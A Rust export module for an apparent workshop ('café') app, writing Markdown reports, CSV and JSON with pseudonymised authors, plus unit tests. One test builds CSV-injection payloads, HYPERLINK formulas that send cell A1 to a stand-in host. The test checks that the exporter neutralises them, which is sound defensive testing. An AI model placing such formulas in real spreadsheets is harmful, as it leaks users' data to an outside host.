//! A café turned into what its sponsor takes away: a Markdown report, a CSV of every note,
//! and JSON of the whole café with the rotation plan. Pure: from the café's state, like the
//! engine, so every export is what the log says.

mod csv;
mod markdown;
mod pseudonyms;
pub mod ranking;

use std::collections::HashMap;

use flamingo_protocol::{
    Authors, CafeExport, ExportFeedback, ExportFormat, ExportNote, ExportParticipant, ExportRound,
    ExportTable, ExportTheme, Millis, ParticipantId, VoteTarget,
};

use crate::engine::Cafe;

/// A finished export, ready to be sent as a download.
#[derive(Debug, Clone, PartialEq)]
pub struct Exported {
    pub content_type: &'static str,
    pub filename: String,
    pub body: String,
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("could not write the export: {0}")]
    Encode(String),
}

pub fn export(
    cafe: &Cafe,
    format: ExportFormat,
    authors: Authors,
    now: Millis,
) -> Result<Exported, ExportError> {
    let data = cafe_export(cafe, authors, now);
    let stem = format!("flamingo-{}-{}", cafe.join_code, date(cafe.created_at));
    Ok(match format {
        ExportFormat::Markdown => Exported {
            content_type: "text/markdown; charset=utf-8",
            filename: format!("{stem}.md"),
            body: markdown::report(&data),
        },
        ExportFormat::Csv => Exported {
            content_type: "text/csv; charset=utf-8",
            filename: format!("{stem}.csv"),
            body: csv::notes(&data)?,
        },
        ExportFormat::Json => Exported {
            content_type: "application/json",
            filename: format!("{stem}.json"),
            body: serde_json::to_string_pretty(&data)
                .map_err(|e| ExportError::Encode(e.to_string()))?,
        },
    })
}

/// The café as data: the JSON export, and what the other formats are written from.
pub fn cafe_export(cafe: &Cafe, authors: Authors, now: Millis) -> CafeExport {
    let harvest = &cafe.harvest;
    let numbers = match authors {
        Authors::Shown => HashMap::new(),
        Authors::Anonymous | Authors::AnonymousWithOrganisations => pseudonyms::numbers(cafe),
    };
    let number = |p: ParticipantId| numbers.get(&p).copied().unwrap_or(0);
    let key = |p: ParticipantId| {
        if authors.names_shown() {
            p.to_string()
        } else {
            format!("P{}", number(p))
        }
    };
    let mut people: Vec<_> = cafe.participants.iter().collect();
    if !authors.names_shown() {
        // Listed in join order, the numbers would lead back to the join order.
        people.sort_by_key(|p| number(p.id));
    }
    let participants = people
        .into_iter()
        .map(|p| ExportParticipant {
            key: key(p.id),
            label: if authors.names_shown() {
                p.name.clone()
            } else {
                format!("Participant {}", number(p.id))
            },
            organisation: p
                .organisation
                .clone()
                .filter(|_| authors.organisations_shown()),
            role: p.role.clone().filter(|_| authors.organisations_shown()),
            present: p.present,
        })
        .collect();
    let rounds = cafe
        .rounds
        .iter()
        .enumerate()
        .map(|(i, spec)| {
            let round = i as u32 + 1;
            let tables = cafe
                .rounds_started
                .get(i)
                .map(|s| {
                    s.tables()
                        .map(|t| ExportTable {
                            table: t.table,
                            host: t.host.map(key),
                            members: t.members.iter().map(|m| key(*m)).collect(),
                        })
                        .collect()
                })
                .unwrap_or_default();
            ExportRound {
                round,
                question: spec.question.clone(),
                minutes: spec.minutes,
                tables,
            }
        })
        .collect();
    let mut notes: Vec<ExportNote> = cafe
        .notes
        .iter()
        .filter(|n| !n.deleted && !n.hidden)
        .map(|n| ExportNote {
            note_id: n.id,
            round: n.round,
            table: n.table,
            author: key(n.author),
            posted_at: n.posted_at,
            edited_at: n.edited_at,
            text: n.text.clone(),
            theme_id: harvest.note_theme.get(&n.id).copied(),
            votes: harvest.total(VoteTarget::Note { note_id: n.id }),
        })
        .collect();
    notes.sort_by_key(|n| (n.round, n.table, n.posted_at));
    let themes = ranking::ranked_themes(cafe)
        .into_iter()
        .filter_map(|r| {
            Some(ExportTheme {
                theme_id: r.theme_id,
                name: harvest.theme(r.theme_id)?.name.clone(),
                votes: r.own,
                score: r.score,
                note_ids: notes
                    .iter()
                    .filter(|n| n.theme_id == Some(r.theme_id))
                    .map(|n| n.note_id)
                    .collect(),
            })
        })
        .collect();
    // Sorted by content, so the order says nothing about who answered first.
    let mut responses: Vec<_> = harvest.feedback.values().cloned().collect();
    responses.sort_by(|a, b| format!("{a:?}").cmp(&format!("{b:?}")));
    CafeExport {
        format_version: 1,
        cafe_id: cafe.id,
        title: cafe.title.clone(),
        join_code: cafe.join_code.clone(),
        created_at: cafe.created_at,
        exported_at: now,
        authors,
        table_size: cafe.table_size,
        participants,
        rounds,
        notes,
        themes,
        commitments: harvest.commitments.clone(),
        feedback: ExportFeedback {
            questions: harvest.questions.clone(),
            responses,
        },
    }
}

/// `2026-11-27`, in UTC.
fn date(ms: Millis) -> String {
    jiff::Timestamp::from_millisecond(ms)
        .map(|t| t.strftime("%Y-%m-%d").to_string())
        .unwrap_or_else(|_| "undated".into())
}

/// `2026-11-27 14:05 UTC`.
fn minute(ms: Millis) -> String {
    jiff::Timestamp::from_millisecond(ms)
        .map(|t| t.strftime("%Y-%m-%d %H:%M UTC").to_string())
        .unwrap_or_default()
}

/// RFC 3339, for machines: `2026-11-27T14:05:09.120Z`.
fn instant(ms: Millis) -> String {
    jiff::Timestamp::from_millisecond(ms)
        .map(|t| t.to_string())
        .unwrap_or_default()
}

/// Looks participants up by key for the writers.
struct People<'a>(HashMap<&'a str, &'a ExportParticipant>);

impl<'a> People<'a> {
    fn of(data: &'a CafeExport) -> Self {
        Self(
            data.participants
                .iter()
                .map(|p| (p.key.as_str(), p))
                .collect(),
        )
    }

    fn get(&self, key: &str) -> Option<&'a ExportParticipant> {
        self.0.get(key).copied()
    }

    fn label(&self, key: &str) -> &'a str {
        self.get(key)
            .map_or("someone who left", |p| p.label.as_str())
    }

    /// The host of `table` in `round`, by key.
    fn host_of(data: &CafeExport, round: u32, table: u32) -> Option<&str> {
        data.rounds
            .get(round.checked_sub(1)? as usize)?
            .tables
            .iter()
            .find(|t| t.table == table)?
            .host
            .as_deref()
    }
}

#[cfg(test)]
mod tests {
    use flamingo_protocol::{
        Commitment, ExportTheme, FeedbackAnswer, FeedbackKind, FeedbackQuestion, NoteId, ThemeId,
    };
    use uuid::Uuid;

    use super::*;

    fn id(n: u128) -> Uuid {
        Uuid::from_u128(n)
    }

    fn note(n: u128, author: &str, text: &str, theme: Option<ThemeId>, votes: u32) -> ExportNote {
        ExportNote {
            note_id: id(n),
            round: 1,
            table: 1,
            author: author.into(),
            posted_at: 1_790_000_000_000 + n as i64,
            edited_at: None,
            text: text.into(),
            theme_id: theme,
            votes,
        }
    }

    fn theme(n: u128, name: &str, votes: u32, score: u32, note_ids: Vec<NoteId>) -> ExportTheme {
        ExportTheme {
            theme_id: id(n),
            name: name.into(),
            votes,
            score,
            note_ids,
        }
    }

    /// A café as `cafe_export` makes it with anonymous authors: keys `P1`, labels
    /// `Participant 1`; themes come ranked by score.
    fn sample() -> CafeExport {
        let participant = |i: usize| ExportParticipant {
            key: format!("P{i}"),
            label: format!("Participant {i}"),
            organisation: (i == 1).then(|| "Org *A*".into()),
            role: None,
            present: true,
        };
        CafeExport {
            format_version: 1,
            cafe_id: id(1),
            title: "Café".into(),
            join_code: "ABCDEF".into(),
            created_at: 1_790_000_000_000,
            exported_at: 1_790_000_100_000,
            authors: Authors::Anonymous,
            table_size: 4,
            participants: vec![participant(1), participant(2)],
            rounds: vec![ExportRound {
                round: 1,
                question: "What helps?".into(),
                minutes: 20,
                tables: vec![ExportTable {
                    table: 1,
                    host: Some("P1".into()),
                    members: vec!["P1".into(), "P2".into()],
                }],
            }],
            notes: vec![
                note(10, "P1", "trust first", Some(id(100)), 2),
                note(11, "P2", "shared budgets", Some(id(101)), 0),
                note(12, "P2", "an unthemed note", None, 1),
            ],
            themes: vec![
                theme(101, "Money *matters*", 5, 5, vec![id(11)]),
                theme(100, "# <b>Trust</b> | people", 1, 3, vec![id(10)]),
            ],
            commitments: vec![Commitment {
                commitment_id: id(200),
                text: "Meet monthly".into(),
                owner: Some("Board [west]".into()),
                due: Some("2026-12-31".into()),
                theme_ids: vec![id(100), id(101)],
            }],
            feedback: ExportFeedback {
                questions: vec![
                    FeedbackQuestion {
                        kind: FeedbackKind::Rating,
                        prompt: "How useful?".into(),
                    },
                    FeedbackQuestion {
                        kind: FeedbackKind::Text,
                        prompt: "What next?".into(),
                    },
                ],
                responses: vec![
                    vec![
                        FeedbackAnswer {
                            rating: Some(4),
                            text: None,
                        },
                        FeedbackAnswer {
                            rating: None,
                            text: Some("<i>call</i> Bob".into()),
                        },
                    ],
                    vec![
                        FeedbackAnswer {
                            rating: Some(5),
                            text: None,
                        },
                        FeedbackAnswer::default(),
                    ],
                    vec![
                        FeedbackAnswer {
                            rating: Some(2),
                            text: None,
                        },
                        FeedbackAnswer::default(),
                    ],
                ],
            },
        }
    }

    fn position(md: &str, needle: &str) -> usize {
        md.find(needle)
            .unwrap_or_else(|| panic!("{needle:?} not in the report:\n{md}"))
    }

    #[test]
    fn the_report_ranks_themes_by_score_and_escapes_their_names() {
        let md = markdown::report(&sample());
        let money = position(&md, "#### 1. Money \\*matters\\* · 5 dots\n\n- ");
        let trust = position(
            &md,
            "#### 2. \\# \\<b\\>Trust\\</b\\> \\| people · 3 dots\n\n1 dot on the theme, 2 on its notes.",
        );
        assert!(money < trust);
        assert!(!md.contains("<b>"), "{md}");
        // Harvest before the notes by round; within the harvest, themes, commitments, feedback.
        let order = [
            "## Questions",
            "## Harvest",
            "### Themes",
            "### Commitments",
            "### Feedback",
            "## Round 1",
        ];
        let at: Vec<usize> = order.iter().map(|h| position(&md, h)).collect();
        assert!(at.windows(2).all(|w| w[0] < w[1]), "{at:?}");
        // The theme's note with its dots, and in the round part with its theme.
        position(&md, "— Participant 1 (Org \\*A\\*) · 2 dots");
        position(
            &md,
            "— Participant 1 (Org \\*A\\*) · theme: \\# \\<b\\>Trust\\</b\\> \\| people · 2 dots",
        );
        position(&md, "— Participant 2 · 1 dot");
    }

    #[test]
    fn the_report_shows_commitments_and_anonymous_feedback() {
        let md = markdown::report(&sample());
        position(
            &md,
            "- Meet monthly  \n  — owner: Board \\[west\\] · due 2026-12-31 · answers: \\# \\<b\\>Trust\\</b\\> \\| people, Money \\*matters\\*",
        );
        position(&md, "3 feedback forms returned.");
        position(&md, "3 answers · average 3.7 of 5");
        position(&md, "| Answers | 0 | 1 | 0 | 1 | 1 |");
        position(&md, "- “\\<i\\>call\\</i\\> Bob”");
        let feedback = &md[position(&md, "### Feedback")..position(&md, "## Round 1")];
        assert!(!feedback.contains("Participant"), "{feedback}");
    }

    #[test]
    fn an_empty_harvest_reads_well() {
        let mut data = sample();
        data.themes.clear();
        data.commitments.clear();
        data.feedback.responses.clear();
        for n in &mut data.notes {
            n.theme_id = None;
            n.votes = 0;
        }
        let md = markdown::report(&data);
        position(&md, "No themes yet.");
        position(&md, "No commitments recorded.");
        position(&md, "No feedback yet.");
        assert!(!md.contains("theme:") && !md.contains(" dot"), "{md}");
    }

    #[test]
    fn csv_rows_end_with_theme_votes_and_the_themes_rank() {
        let body = csv::notes(&sample()).expect("csv");
        let mut r = ::csv::Reader::from_reader(body.as_bytes());
        let header: Vec<String> = r
            .headers()
            .expect("header")
            .iter()
            .map(Into::into)
            .collect();
        assert_eq!(
            &header[header.len() - 5..],
            ["note_id", "theme", "votes", "theme_rank", "theme_score"]
        );
        let rows: Vec<::csv::StringRecord> = r.records().map(|x| x.expect("row")).collect();
        let cols: Vec<Vec<&str>> = rows
            .iter()
            .map(|x| vec![&x[5], &x[12], &x[13], &x[14], &x[15]])
            .collect();
        assert_eq!(
            cols,
            [
                ["Participant 1", "# <b>Trust</b> | people", "2", "2", "3"],
                ["Participant 2", "Money *matters*", "0", "1", "5"],
                ["Participant 2", "", "1", "", ""],
            ]
        );
    }

    /// OWASP's CSV injection rule: a cell that starts with any of these is prefixed with `'`.
    const FORMULA_STARTS: [&str; 6] = ["=", "+", "-", "@", "\t", "\r"];

    #[test]
    fn csv_cells_that_could_run_as_formulas_are_inert_in_every_column() {
        for start in FORMULA_STARTS.iter().chain(&["\0", "\u{FF1D}", "\n"]) {
            let evil = |what: &str| format!("{start}HYPERLINK(\"http://x.test/?\"&A1,\"{what}\")");
            let mut data = sample();
            data.title = evil("title");
            data.rounds[0].question = evil("question");
            for p in &mut data.participants {
                p.label = evil(&p.key);
                p.organisation = Some(evil("organisation"));
                p.role = Some(evil("role"));
            }
            for n in &mut data.notes {
                n.text = evil("note");
            }
            for t in &mut data.themes {
                t.name = evil("theme");
            }
            let body = csv::notes(&data).expect("csv");
            let mut r = ::csv::Reader::from_reader(body.as_bytes());
            let header: Vec<String> = r
                .headers()
                .expect("header")
                .iter()
                .map(Into::into)
                .collect();
            let col = |name: &str| header.iter().position(|h| h == name).expect(name);
            let rows: Vec<::csv::StringRecord> = r.records().map(|x| x.expect("row")).collect();
            assert_eq!(rows.len(), 3);
            for row in &rows {
                for cell in row {
                    assert!(
                        cell.is_empty() || csv::inert(cell) == cell,
                        "{start:?}: a cell a spreadsheet would run: {cell:?}"
                    );
                }
                for (column, what) in [
                    ("cafe", "title"),
                    ("question", "question"),
                    ("organisation", "organisation"),
                    ("role", "role"),
                    ("text", "note"),
                ] {
                    assert_eq!(row[col(column)], format!("'{}", evil(what)), "{column}");
                }
                assert!(row[col("author")].starts_with(&format!("'{start}")));
                assert!(row[col("host")].starts_with(&format!("'{start}")));
            }
            assert_eq!(rows[0][col("theme")], format!("'{}", evil("theme")));
        }
        // Every cell is quoted, so no spreadsheet's own separator can start a new cell.
        let body = csv::notes(&sample()).expect("csv");
        for line in body.lines() {
            assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
        }
    }

    #[test]
    fn harmless_cells_are_written_as_they_are() {
        for cell in [
            "", "plain", "'quoted", " =spaced", "1+1", "a-b", "#tag", "x@y",
        ] {
            assert_eq!(csv::inert(cell), cell);
        }
    }
}
